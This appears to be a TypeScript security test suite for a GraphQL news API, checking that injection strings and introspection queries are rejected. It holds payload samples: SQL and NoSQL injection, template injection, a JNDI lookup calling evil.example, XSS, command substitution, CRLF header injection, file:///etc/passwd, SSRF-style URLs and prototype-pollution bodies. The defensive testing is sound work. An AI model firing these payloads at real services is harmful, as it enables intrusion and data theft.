import { answered, BAD_INPUT, BAD_PAGE, BAD_VARIABLES, type Case, INVALID, query, request, UNPARSED } from './case.ts';

/** What asks for what the schema does not tell, and puts into arguments what should not be there. */

const PATH = 'query ($p: String!) { article(by: { path: $p }) { __typename } }';
const SLUG = 'query ($s: String!) { section(slug: $s) { slug } }';
const RANGE = 'query ($d: DateTime) { latest(published: { from: $d }) { edges { cursor } } }';
const NOTHING_THERE = { data: { latest: { edges: [] } } };

/** Texts that mean something to one language or another, and nothing here. */
const INJECTIONS: readonly string[] = [
  ...['#', '$', 'A#', 'V#9999', '\u0000', '\u0001', '|', '..', '*', '%', '%00', '%2e%2e', '\uffff', '🦆', '\u202e'],
  ...[
    "' OR '1'='1",
    '"; DROP TABLE news; --',
    '{"$ne": null}',
    '{"S":"x"}',
    '{{7*7}}',
    '$\u007b7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '$\u007bjndi:ldap://evil.example/a}',
  ],
  ...['<script>alert(1)</script>', '$(id)', '`id`', '; id', '\r\nset-cookie: a=b', 'attribute_exists(pk)', ':sk', 'begins_with(sk, :v)'],
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'void 0', 'NaN', 'true', 'TEASER', 'LISTINGS', 'PROFILE'],
];

/** What stands in no path: spaces, control characters, "?", "#", "\\", empty segments, broken percent-encoding. */
const NO_PATH = /[\s\p{Cc}?#\\]|%(?![0-9a-f]{2})|%00|\.\.|%2e|\/\//iu;

export const PROBING: readonly Case[] = [
  ...['\ud800', 'a\udc00b', '\udc00\ud800'].map(
    (half): Case => ({ name: `the half of a character ${JSON.stringify(half)}`, event: query(SLUG, { s: half }), ...BAD_VARIABLES }),
  ),
  { name: 'half of a character in a document', event: query('{ section(slug: "\\uD800") { slug } }'), ...UNPARSED },
  {
    name: 'half of a character deep in the variables',
    event: query('query ($b: ArticleBy!) { article(by: $b) { __typename } }', { b: { uri: { source: 'x', uri: '\udfff' } } }),
    ...BAD_VARIABLES,
  },
  ...INJECTIONS.map(
    (text): Case => ({ name: `the slug ${JSON.stringify(text)}`, event: query(SLUG, { s: text }), ...answered({ section: null }, 1) }),
  ),
  ...INJECTIONS.map(
    (text): Case => ({
      name: `the path ${JSON.stringify(`/${text}`)}`,
      event: query(PATH, { p: `/${text}` }),
      ...(NO_PATH.test(`/${text}`) ? BAD_INPUT : answered({ article: null }, 2)),
    }),
  ),
  ...INJECTIONS.map(
    (text): Case => ({
      name: `the id ${JSON.stringify(text)}`,
      event: query('query ($id: ID!) { node(id: $id) { id } }', { id: text }),
      ...answered({ node: null }),
    }),
  ),
  ...INJECTIONS.map(
    (text): Case => ({
      name: `the cursor ${JSON.stringify(text)}`,
      event: query('query ($c: String) { latest(after: $c) { edges { cursor } } }', { c: text }),
      ...BAD_PAGE,
    }),
  ),
  ...[
    'A#',
    'V#2026-01-01T00:00:00.000Z#0000000000000001#HEAD',
    'A#9999-12-31T23:59:59.999Z#a_x',
    'TEASER',
    'LISTINGS',
    '{"pk":"MOMENTS","sk":"D#"}',
  ].map(
    (key): Case => ({
      name: `the key ${key} as a cursor`,
      event: query('query ($c: String) { latest(after: $c) { edges { cursor } } }', { c: Buffer.from(key).toString('base64url') }),
      ...BAD_PAGE,
    }),
  ),
  ...['MOMENTS', 'CHANGES', 'LATEST', 'CONCEPTS#Person', 'ARTICLE#a_x'].map(
    (key): Case => ({
      name: `the partition ${key} as a front`,
      event: query('query ($s: String!) { front(slug: $s) { slug } }', { s: key }),
      ...answered({ front: null }),
    }),
  ),

  { name: 'the schema', event: query('{ __schema { types { name } } }'), ...INVALID },
  { name: 'the schema under another name', event: query('{ site { name } a: __schema { queryType { name } } }'), ...INVALID },
  { name: 'the schema in a fragment', event: query('{ ...S } fragment S on Query { __schema { directives { name } } }'), ...INVALID },
  { name: 'the schema by GET', event: request(undefined, { method: 'GET', search: 'query={__schema{types{name}}}' }), ...INVALID },
  {
    name: 'the schema in an operation that is not run',
    event: query('query A { __typename } query B { __schema { types { name } } }', {}, { operationName: 'A' }),
    ...INVALID,
  },
  {
    name: 'the schema in a circle',
    event: query('{ __schema { types { fields { type { fields { type { fields { type { name } } } } } } } } }'),
    ...INVALID,
  },
  { name: 'one type', event: query('{ __type(name: "NewsArticle") { fields { name } } }'), ...INVALID },
  { name: 'the service of a federation', event: query('{ _service { sdl } }'), ...INVALID },
  {
    name: 'entities of a federation',
    event: query('{ _entities(representations: [{ __typename: "NewsArticle", id: "x" }]) { __typename } }'),
    ...INVALID,
  },
  { name: 'a field that nearly exists', event: query('{ lates { edges { cursor } } }'), ...INVALID },
  { name: 'an argument that nearly exists', event: query('{ latest(firs: 1) { edges { cursor } } }'), ...INVALID },
  { name: 'a type that nearly exists', event: query('{ node(id: "x") { ... on NewsArticl { id } } }'), ...INVALID },
  { name: 'an enum value that nearly exists', event: query('{ concepts(kind: PERSONS) { edges { cursor } } }'), ...INVALID },
  { name: 'a field of an input that nearly exists', event: query('{ article(by: { idd: "x" }) { __typename } }'), ...INVALID },
  { name: 'a directive that nearly exists', event: query('{ __typename @skp(if: true) }'), ...INVALID },
  {
    name: 'a field of an input that nearly exists, in a variable',
    event: query('query ($b: ArticleBy!) { article(by: $b) { __typename } }', { b: { pat: '/x' } }),
    ...BAD_VARIABLES,
  },
  {
    name: 'an enum value that nearly exists, in a variable',
    event: query('query ($k: ConceptKind!) { concepts(kind: $k) { edges { cursor } } }', { k: 'PERSN' }),
    ...BAD_VARIABLES,
  },

  ...['person', 'Person', 'toString', '__proto__', '', 0, null, ['PERSON', 'TOPIC'], { PERSON: 1 }, true].map(
    (kind): Case => ({
      name: `the kind ${JSON.stringify(kind)}`,
      event: query('query ($k: ConceptKind!) { concepts(kind: $k) { edges { cursor } } }', { k: kind }),
      ...BAD_VARIABLES,
    }),
  ),
  { name: 'an enum as a text', event: query('{ concepts(kind: "PERSON") { edges { cursor } } }'), ...INVALID },
  { name: 'an enum as a number', event: query('{ concepts(kind: 0) { edges { cursor } } }'), ...INVALID },
  { name: 'an enum that is true', event: query('{ concepts(kind: true) { edges { cursor } } }'), ...INVALID },
  {
    name: 'an enum through a variable of another type',
    event: query('query ($k: String!) { concepts(kind: $k) { edges { cursor } } }', { k: 'PERSON' }),
    ...INVALID,
  },
  ...['20', 1.5, true, {}, ['a', 'b'], null].map(
    (first): Case => ({
      name: `the size ${JSON.stringify(first)}`,
      event: query('query ($n: Int!) { latest(first: $n) { edges { cursor } } }', { n: first }),
      ...BAD_VARIABLES,
    }),
  ),
  ...[0, -1, 101, 2_147_483_647, -2_147_483_648].map(
    (first): Case => ({
      name: `the size ${first}`,
      event: query('query ($n: Int!) { latest(first: $n) { edges { cursor } } }', { n: first }),
      ...BAD_PAGE,
    }),
  ),
  { name: 'both directions at once', event: query('{ latest(first: 1, last: 1) { edges { cursor } } }'), ...BAD_PAGE },
  { name: 'a variable that is not given', event: query(SLUG), ...BAD_VARIABLES },
  { name: 'a variable that is not said to be one', event: query('{ section(slug: $s) { slug } }', { s: 'x' }), ...INVALID },
  { name: 'a variable of a type that does not exist', event: query('query ($a: Secret) { node(id: $a) { id } }', { a: 'x' }), ...INVALID },
  {
    name: 'a variable of a type that is an output',
    event: query('query ($a: NewsArticle) { node(id: $a) { id } }', { a: {} }),
    ...INVALID,
  },
  { name: 'two ways at once to name an article', event: query('{ article(by: { id: "x", path: "/x" }) { __typename } }'), ...INVALID },
  {
    name: 'two ways at once, in a variable',
    event: query('query ($b: ArticleBy!) { article(by: $b) { __typename } }', { b: { id: 'x', path: '/x' } }),
    ...BAD_VARIABLES,
  },
  {
    name: 'no way to name an article',
    event: query('query ($b: ArticleBy!) { article(by: $b) { __typename } }', { b: {} }),
    ...BAD_VARIABLES,
  },
  {
    name: 'a way that is null',
    event: query('query ($b: ArticleBy!) { article(by: $b) { __typename } }', { b: { id: null } }),
    ...BAD_VARIABLES,
  },
  {
    name: 'an article named by a list',
    event: query('query ($b: ArticleBy!) { article(by: $b) { __typename } }', { b: [{ id: 'x' }, { path: '/x' }] }),
    ...BAD_VARIABLES,
  },
  ...['yesterday', '2026-13-45T99:99:99Z', '2026-02-30T00:00:00Z', '', '00', '9'.repeat(1_000), '2026-01-01T00:00:00+99:99'].map(
    (date): Case => ({ name: `the moment ${date.slice(0, 30)}`, event: query(RANGE, { d: date }), ...BAD_VARIABLES }),
  ),
  ...[0, 1e21, true, {}, [[]]].map(
    (date): Case => ({ name: `the moment ${JSON.stringify(date)}`, event: query(RANGE, { d: date }), ...BAD_VARIABLES }),
  ),
  {
    name: 'a time that ends before it begins',
    event: query('{ latest(published: { from: "2099-01-01T00:00:00Z", until: "2026-01-01T00:00:00Z" }) { edges { cursor } } }'),
    ...answered(NOTHING_THERE.data),
  },
  {
    name: 'a time that has not come',
    event: query('{ latest(published: { from: "2098-01-01T00:00:00Z", until: "2099-01-01T00:00:00Z" }) { edges { cursor } } }'),
    ...answered(NOTHING_THERE.data),
  },
  ...['xx-', '-', 'en_', 'a', '..', 'en-'.repeat(30)].map(
    (language): Case => ({
      name: `the language ${language}`,
      event: query('query ($l: String) { latest(inLanguage: $l) { edges { cursor } } }', { l: language }),
      ...BAD_INPUT,
    }),
  ),
  ...[
    'https://evil.example/x',
    'file:///etc/passwd',
    'javascript:alert(1)',
    '//evil.example/x',
    'http://[',
    'https://test.example@evil.example/',
    '\\\\evil',
    '',
  ].map(
    (url): Case => ({
      name: `the address ${url}`,
      event: query('query ($u: String!) { resolve(url: $u) { __typename } }', { u: url }),
      ...answered({ resolve: null }, 5),
    }),
  ),
  ...['0:0', '1:0', '-1:1', '1e9:1', 'a:b', '', '1:1:1', '9'.repeat(400), 'NaN', 'Infinity', `${' '.repeat(50_000)}1:1`].map(
    (ratio): Case => ({
      name: `the shape ${ratio.trim().slice(0, 20)} of ${ratio.length} characters`,
      event: query('query ($r: String!) { latest(first: 1) { edges { node { image { crop(ratio: $r, width: 100) } } } } }', { r: ratio }),
      ...{ status: 200, code: 'BAD_USER_INPUT', calls: 2 },
    }),
  ),
  ...[0, -1, 2_147_483_647].map(
    (width): Case => ({
      name: `a picture ${width} wide`,
      event: query('query ($w: Int!) { latest(first: 1) { edges { node { image { crop(ratio: "1:1", width: $w) } } } } }', { w: width }),
      ...{ status: 200, code: 'BAD_USER_INPUT', calls: 2 },
    }),
  ),
  {
    name: 'no related article',
    event: query('{ latest(first: 1) { edges { node { related(first: 0) { article { id } } } } } }'),
    ...{ status: 200, code: 'BAD_USER_INPUT', calls: 1 },
  },
  {
    name: 'too many related articles',
    event: query('{ latest(first: 1) { edges { node { related(first: 21) { article { id } } } } } }'),
    ...{ status: 200, code: 'BAD_USER_INPUT', calls: 1 },
  },

  {
    name: 'a key of a body that is a prototype',
    event: request('{"query":"{ __typename }","__proto__":{"query":"{ site { name } }"},"constructor":{"prototype":{"a":1}}}'),
    ...answered({ __typename: 'Query' }),
  },
  {
    name: 'variables that are a prototype',
    event: request(`{"query":"${SLUG}","variables":{"__proto__":{"s":"world"}}}`),
    ...BAD_VARIABLES,
  },
  {
    name: 'an input with a prototype',
    event: request('{"query":"query($b:ArticleBy!){article(by:$b){__typename}}","variables":{"b":{"__proto__":{"id":"x"}}}}'),
    ...BAD_VARIABLES,
  },
  {
    name: 'an input with a constructor',
    event: request(
      '{"query":"query($b:ArticleBy!){article(by:$b){__typename}}","variables":{"b":{"constructor":{"prototype":{"id":"x"}}}}}',
    ),
    ...BAD_VARIABLES,
  },
  {
    name: 'a variable called __proto__',
    event: request('{"query":"query($__proto__:String!){section(slug:$__proto__){slug}}","variables":{"__proto__":"x"}}'),
    ...answered({ section: null }, 1),
  },
  {
    name: 'names of fields as objects have them',
    event: query('{ toString: site { constructor: name hasOwnProperty: url } }'),
    ...answered({ toString: { constructor: 'The Test', hasOwnProperty: 'https://test.example' } }),
  },
  {
    name: 'fragments called as objects are made',
    event: query('{ site { ...constructor ...toString } } fragment constructor on Site { name } fragment toString on Site { url }'),
    ...answered({ site: { name: 'The Test', url: 'https://test.example' } }),
  },
  {
    name: 'a fragment called __proto__',
    event: query('{ site { ...__proto__ } } fragment __proto__ on Site { name }'),
    ...answered({ site: { name: 'The Test' } }),
  },
  { name: 'fields that objects have', event: query('{ constructor hasOwnProperty __proto__ }'), ...INVALID },
];
